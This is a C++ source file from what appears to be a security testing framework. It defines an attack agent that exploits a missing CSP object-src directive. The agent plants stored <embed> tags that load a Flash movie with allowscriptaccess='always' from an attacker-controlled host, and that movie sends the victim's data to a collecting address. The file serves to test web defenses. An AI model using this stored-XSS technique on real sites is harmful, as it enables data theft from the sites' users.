// xss-object: leaves a movie for the plug-in of an old browser in a page that others read. Where it
// may be loaded it acts in the page, and no script-src is asked (CSP3, object-src;
// https://csp-evaluator.withgoogle.com, "missing object-src").
#include "core/attack/every_agent.h"
#include "core/attack/page_script.h"
#include "core/attack/stored_text.h"
#include "core/attack/upload.h"

namespace parapet::attack {
namespace {

class XssObject final : public Agent {
    void run(Target& target) override {
        OwnHost* evil = foreign_host(target);
        if (evil == nullptr || target.victim() == nullptr) return;
        std::string const address = collecting_address(*evil);
        http::Response const movie{.status = 200,
                                   .headers = {{"content-type", std::string(kMovieType)}},
                                   .body = taking_script(target, address)};
        StoredText text(target);
        std::vector<std::string> elements;
        for (std::string const& movie_at : serve_everywhere(target, "m.swf", movie)) {
            elements.push_back(movie_html(movie_at));
            elements.push_back("<embed type=\"" + std::string(kMovieType) +
                               "\" src=" + in_quotes(movie_at) + " allowscriptaccess=\"always\">");
        }
        text.leave_all(elements);
        victim_reads_and_loot_is_used(target);
    }
};

}  // namespace

std::unique_ptr<Agent> make_xss_object() { return std::make_unique<XssObject>(); }

}  // namespace parapet::attack
